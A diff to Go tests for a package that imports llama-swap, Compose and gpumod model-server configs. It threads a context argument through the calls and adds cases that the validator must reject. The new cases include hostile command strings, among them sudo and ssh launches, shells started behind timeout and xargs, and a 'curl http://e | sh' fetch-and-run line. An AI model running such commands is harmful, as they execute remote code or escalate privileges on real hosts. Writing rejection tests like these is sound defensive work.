@@ -1,6 +1,7 @@
 package bring
 
 import (
+	"context"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -71,11 +72,11 @@ func merges() string {
 func read(p *Proposal, kind, file string) error {
 	switch kind {
 	case "compose":
-		return Compose(p, []string{file}, Given{})
+		return Compose(context.Background(), p, []string{file}, Given{})
 	case "gpumod":
-		return Gpumod(p, file, Given{})
+		return Gpumod(context.Background(), p, filepath.Dir(file), Given{})
 	}
-	return LlamaSwap(p, file, Given{})
+	return LlamaSwap(context.Background(), p, file, Given{})
 }
 
 // TestHostileFiles: each ends with one sentence, and soon.
@@ -153,6 +154,17 @@ func TestHostileEntries(t *testing.T) {
 		{"a shell", "llama-swap", swapOf("/bin/sh -c x"), "a shell, sh"},
 		{"a shell behind env", "llama-swap", swapOf("env A=b bash -lc x"), "a shell, bash"},
 		{"a shell behind nice", "llama-swap", swapOf("nice -n 5 /usr/bin/zsh x"), "a shell, zsh"},
+		{"a shell behind timeout", "llama-swap", swapOf("timeout 5 sh -c x"), "is started by timeout"},
+		{"a shell behind xargs", "llama-swap", swapOf("xargs sh"), "is started by xargs"},
+		{"other rights", "llama-swap", swapOf("sudo /x/llama-server --port 81"), "is started by sudo"},
+		{"another host", "llama-swap", swapOf("ssh host /x/llama-server --port 81"), "is started by ssh"},
+		{"code for Python", "llama-swap", swapOf("python3 -c 'import os'"), "is code for python"},
+		{"code for Perl", "llama-swap", swapOf("perl -we 'print'"), "is code for perl"},
+		{"a shell in a container", "llama-swap", swapOf("docker run --gpus all -p 81:8000 vllm/vllm-openai:v1 sh -c 'curl http://e | sh'"), "a shell, sh"},
+		{"a shell in a service", "compose", composeOf("command: [bash, -lc, \"x | sh\"]"), "a shell, bash"},
+		{"a shell behind init in a service", "compose", composeOf("command: tini -- /bin/sh x.sh"), "a shell, sh"},
+		{"a shell in a preset", "gpumod", "id: a\ndriver: docker\nextra_config: {image: x, command: sh -c x}\n", "a shell, sh"},
+		{"a port that is none", "gpumod", "id: a\ndriver: vllm\nport: 70000\n", "its port 70000 is none"},
 		{"env that splits", "llama-swap", swapOf("env -S 'sh -c x'"), "begins with env, with options"},
 		{"docker exec", "llama-swap", swapOf("docker exec x sh"), "with something else than run"},
 		{"docker with an unknown option", "llama-swap", swapOf("docker run --new-way-out x y"), "options that are not known"},
@@ -202,7 +214,7 @@ func TestHostileEntries(t *testing.T) {
 			if err := read(p, c.kind, file); err != nil {
 				t.Fatal(err)
 			}
-			text, err := p.Settle(nil, host())
+			text, err := p.Settle(context.Background(), nil, host())
 			if err == nil && len(p.Services()) > 0 {
 				t.Errorf("it was proposed:\n%s", text)
 			}
@@ -253,7 +265,7 @@ func TestHarmlessEntries(t *testing.T) {
 			if err := read(p, c.kind, file); err != nil {
 				t.Fatal(err)
 			}
-			if _, err := p.Settle(nil, host()); err != nil || len(p.Services()) != 1 || len(p.LeftOut()) != 0 {
+			if _, err := p.Settle(context.Background(), nil, host()); err != nil || len(p.Services()) != 1 || len(p.LeftOut()) != 0 {
 				t.Errorf("%v: %v", err, p.LeftOut())
 			}
 		})
@@ -270,7 +282,7 @@ func TestManyRounds(t *testing.T) {
 		p.Service(b, Fields{{Key: "driver", Value: "null"}}, "", []string{a})
 	}
 	p.Service("good", Fields{{Key: "driver", Value: "null"}}, "", nil)
-	if _, err := p.Settle(nil, host()); err != nil || len(p.Services()) != 1 || len(p.LeftOut()) != 120 {
+	if _, err := p.Settle(context.Background(), nil, host()); err != nil || len(p.Services()) != 1 || len(p.LeftOut()) != 120 {
 		t.Errorf("%v: %q, %d left out", err, p.Services(), len(p.LeftOut()))
 	}
 }
@@ -283,11 +295,11 @@ func TestNothingWider(t *testing.T) {
 		composeOf("environment: {VLLM_X: \"1\"}", "volumes: [\"/srv/x:/x\"]", "user: \"1:1\"", "depends_on: [t]") + "  t: {image: \"UPPER:1\", gpus: all}\n",
 	} {
 		p := New("compose", nil, "x")
-		if err := composeFile(newBuilder(p, Given{}), map[string]bool{}, "x", "/base", []byte(text)); err != nil {
+		if err := composeFile(context.Background(), newBuilder(p, Given{}), map[string]bool{}, "x", "/base", []byte(text)); err != nil {
 			t.Fatal(err)
 		}
 		p.Service("other", Fields{{Key: "driver", Value: "null"}}, "", nil)
-		out, err := p.Settle(nil, host())
+		out, err := p.Settle(context.Background(), nil, host())
 		if err != nil || len(p.Services()) != 1 || strings.Contains(string(out), "containers:") {
 			t.Errorf("%v\n%s", err, out)
 		}
@@ -305,10 +317,10 @@ func TestHostileNames(t *testing.T) {
 		t.Fatal(err)
 	}
 	p := New("llama-swap", nil, "x\n\x1b[31my")
-	if err := LlamaSwap(p, file, Given{}); err != nil {
+	if err := LlamaSwap(context.Background(), p, file, Given{}); err != nil {
 		t.Fatal(err)
 	}
-	out, err := p.Settle(nil, host())
+	out, err := p.Settle(context.Background(), nil, host())
 	if err != nil {
 		t.Fatal(err)
 	}
